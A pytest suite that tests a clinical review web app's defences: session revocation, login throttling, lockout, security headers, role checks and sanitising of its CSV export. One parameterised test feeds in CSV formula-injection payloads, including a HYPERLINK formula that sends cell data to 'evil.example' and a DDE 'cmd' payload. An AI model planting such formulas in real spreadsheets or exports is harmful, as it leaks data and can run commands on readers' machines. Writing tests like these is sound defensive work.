"""The review UI under hostile input and hostile users: uploads read like the CLI, sessions, headers, roles."""

import io
import json
import re

import pytest

from engine import batch
from review_ui import workflow
from review_ui.db import db
from review_ui.models import Batch
from tests.helpers import record

PASSWORD = "correct horse battery"


@pytest.fixture
def client(app):
    with app.app_context():
        workflow.add_user("alice", PASSWORD, "clinician", actor="test")
        workflow.add_user("ed", PASSWORD, "rule_editor", actor="test")
        workflow.add_user("ada", PASSWORD, "admin", actor="test")
    return app.test_client()


def login(client, username="alice", password=PASSWORD):
    return client.post("/login", data={"username": username, "password": password}, follow_redirects=True)


def post_file(client, body, name):
    return client.post(
        "/import", data={"file": (io.BytesIO(body), name)}, content_type="multipart/form-data", follow_redirects=True
    )


def test_an_upload_is_read_exactly_as_the_cli_reads_the_file(client, app, tmp_path):
    body = (
        b"\xef\xbb\xbf"  # a UTF-8 BOM
        + json.dumps(record(id="U1", conditions=["asthma\u2028hay fever"]), ensure_ascii=False).encode()
        + b"\n"
        + json.dumps(record(id="U2")).encode().replace(b'"female"', b'"f\xe9male"')  # Latin-1
        + b"\n"
        + json.dumps(record(id="U3")).encode()
        + b"\n"
    )
    path = tmp_path / "in.jsonl"
    path.write_bytes(body)
    cli = [(line, getattr(raw, "reason", None)) for line, raw in batch.read_records(path)]
    assert [line for line, _ in cli] == [1, 2, 3] and cli[0][1] is None and cli[1][1].startswith("not valid UTF-8")
    login(client)
    page = post_file(client, body, "in.jsonl").get_data(as_text=True)
    assert "2 new cases, 0 already imported, 1 rejected" in page
    with app.app_context():
        imported = db.session.query(Batch).one()
        assert [(r["line"], r["errors"][0]["reason"]) for r in imported.rejects] == [(2, cli[1][1])]


def test_an_upload_that_is_not_text_is_refused_beside_the_field(client):
    login(client)
    response = post_file(client, "id,age_years\nA,40\n".encode("utf-16"), "in.csv")
    assert response.status_code == 400
    assert "in.csv: the file is UTF-16 text; save it as UTF-8 (JSON Lines or CSV)" in response.get_data(as_text=True)


# --- sessions and signatures ---------------------------------------------------------------------


def upload(client, *records):
    body = "\n".join(json.dumps(r) for r in records).encode()
    return post_file(client, body, "in.jsonl")


def case_id(app, ref):
    from review_ui.models import Case

    with app.app_context():
        return db.session.query(Case).filter_by(patient_ref=ref).one().id


def actions(app):
    from audit import log as audit

    with app.app_context():
        return [e.action for e in audit.read(db.session, newest_first=False)]


def test_a_saved_cookie_no_longer_works_after_sign_out(client, app):
    login(client)
    saved = client.get_cookie("session").value
    client.post("/logout")
    thief = app.test_client()
    thief.set_cookie("session", saved)
    response = thief.get("/cases")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_sign_out_everywhere_ends_every_session_of_the_user(client, app):
    other = app.test_client()
    login(client)
    login(other)
    assert other.get("/cases").status_code == 200
    page = client.post("/logout/everywhere", follow_redirects=True).get_data(as_text=True)
    assert "Signed out everywhere (2 session(s) ended)." in page
    assert other.get("/cases").status_code == 302
    assert actions(app)[-1] == "logout.everywhere"


def test_a_session_ends_at_its_absolute_lifetime_however_active(client, app, monkeypatch):
    from datetime import timedelta

    from review_ui.models import utcnow

    login(client)
    assert client.get("/cases").status_code == 200
    later = utcnow() + app.config["SESSION_ABSOLUTE_LIFETIME"] + timedelta(seconds=1)
    monkeypatch.setattr(workflow, "utcnow", lambda: later)  # the cookie is fresh: only the server-side limit ends it
    assert client.get("/cases").status_code == 302


def test_wrong_signature_passwords_are_audited_and_lock_the_account(client, app):
    login(client)
    upload(client, record(id="S1"))
    cid = case_id(app, "S1")
    form = {"kind": "approve", "expected_version": "1", "password": "not my password"}
    for _ in range(workflow.MAX_FAILED_LOGINS):
        page = client.post(f"/cases/{cid}/decide", data=form).get_data(as_text=True)
    assert "The decision was not signed. The account is locked after 5 wrong passwords" in page
    assert actions(app).count("signature.failed") == workflow.MAX_FAILED_LOGINS
    right = client.post(f"/cases/{cid}/decide", data={**form, "password": PASSWORD}).get_data(as_text=True)
    assert "The account is locked" in right  # the right password does not sign while locked
    assert "Unknown username or wrong password." in login(app.test_client()).get_data(as_text=True)


def test_unknown_users_get_the_same_answer_and_the_same_password_work(client, app, monkeypatch):
    import werkzeug.security

    checked = []
    real = werkzeug.security.check_password_hash
    monkeypatch.setattr(workflow, "check_password_hash", lambda h, p: checked.append(h) or real(h, p))
    answers = []
    for username in ("alice", "nobody"):
        page = login(app.test_client(), username, "wrong password").get_data(as_text=True)
        answers.append(re.findall(r'<div class="flash[^"]*"[^>]*>(.*?)</div>', page))
    assert answers[0] == answers[1] and "Unknown username or wrong password." in answers[0][0]
    assert len(checked) == 2  # a password hash is checked for the unknown user too (similar time)


def test_sign_in_is_throttled_per_account_across_clients(client, app):
    statuses = []
    for n in range(12):
        other = app.test_client()
        response = other.post(
            "/login",
            data={"username": "ALICE", "password": "guess"},
            environ_base={"REMOTE_ADDR": f"10.0.0.{n}"},
        )
        statuses.append(response.status_code)
    assert statuses[:10] == [200] * 10 and statuses[10:] == [429, 429]
    assert "Too many attempts" in other.post("/login", data={"username": "alice", "password": "x"}).get_data(True)


def test_sign_in_is_throttled_per_client_whatever_the_username(client, app):
    statuses = [
        app.test_client().post("/login", data={"username": f"user{n}", "password": "guess"}).status_code
        for n in range(21)
    ]
    assert statuses[:20] == [200] * 20 and statuses[20] == 429


# --- output that attacks its reader -----------------------------------------------------------------


@pytest.mark.parametrize(
    "username",
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"],
)
def test_audit_csv_neutralises_formula_cells(client, app, username):
    import csv

    app.test_client().post("/login", data={"username": username, "password": "x"})
    login(client, "ada")
    rows = list(csv.DictReader(io.StringIO(client.get("/audit.csv").get_data(as_text=True))))
    failed = next(r for r in rows if r["action"] == "login.failed")
    assert failed["actor"] == "'" + username and failed["target_id"] == "'" + username
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


# --- hardening ------------------------------------------------------------------------------------------


def test_security_headers_and_no_caching_of_patient_pages(client):
    login(client)
    upload(client, record(id="H1"))
    for path in ("/cases", "/login", "/audit", "/import"):
        headers = client.get(path).headers
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert "script-src 'self'" in headers["Content-Security-Policy"]
        assert headers["X-Frame-Options"] == "DENY" and headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cache-Control"] == "no-store"
    assert "Server" not in client.get("/cases").headers


def test_the_session_cookie_is_secure_over_https_only(client, app):
    plain, secure = app.test_client(), app.test_client()
    plain.post("/login", data={"username": "alice", "password": PASSWORD})
    secure.post("/login", data={"username": "alice", "password": PASSWORD}, base_url="https://localhost")
    assert not plain.get_cookie("session").secure
    assert secure.get_cookie("session", domain="localhost").secure


def test_clinicians_cannot_read_drafts_through_the_diff_url(client, app):
    from review_ui import ruleset_drafts
    from review_ui.models import User

    with app.app_context():
        editor = db.session.query(User).filter_by(username="ed").one()
        draft = ruleset_drafts.create_draft("magnesium", actor=editor)
        draft_id = draft.id
    login(client)
    assert client.get(f"/rulesets/diff?a=v1&b=draft-{draft_id}").status_code == 403
    assert client.get("/rulesets/diff?a=v1&b=v1").status_code == 200
    assert f"draft-{draft_id}" not in client.get("/rulesets/").get_data(as_text=True)


def test_rule_editors_see_the_audit_of_rulesets_not_patients_plans(client, app):
    login(client)
    upload(client, record(id="PRIVATE-PATIENT-1"))
    client.post(
        f"/cases/{case_id(app, 'PRIVATE-PATIENT-1')}/decide",
        data={"kind": "approve", "expected_version": "1", "password": PASSWORD},
    )
    editor = app.test_client()
    login(editor, "ed")
    csv_text = editor.get("/audit.csv").get_data(as_text=True)
    page = editor.get("/audit").get_data(as_text=True)
    assert "ruleset.register" in csv_text and "ruleset.register" in page
    for text in (csv_text, page):
        assert "decision.approve" not in text and "PRIVATE-PATIENT-1" not in text  # a name no random token spells
    assert "decision.approve" in client.get("/audit.csv").get_data(as_text=True)


@pytest.mark.parametrize(
    "path",
    ["/cases/99999999999999999999999", "/batches/9223372036854775808", "/rulesets/drafts/123456789012345678901"],
)
def test_huge_ids_in_urls_are_not_found_not_a_server_error(client, path):
    login(client, "ada")
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("query", ["batch=99999999999999999999999", "a=v1&b=draft-99999999999999999999"])
def test_huge_numbers_in_queries_are_a_client_error(client, query):
    login(client, "ada")
    path = "/rulesets/diff" if query.startswith("a=") else "/cases"
    assert client.get(f"{path}?{query}").status_code in (200, 302, 400)


def test_an_id_over_the_column_length_is_one_reject_not_a_failed_upload(client, app):
    login(client)
    page = upload(client, record(id="L1"), record(id="X" * 500), record(id="L2")).get_data(as_text=True)
    assert "2 new cases, 0 already imported, 1 rejected" in page
    with app.app_context():
        rejects = db.session.query(Batch).one().rejects
    assert rejects[0]["line"] == 2 and rejects[0]["errors"] == [{"field": "id", "reason": "longer than 120 characters"}]
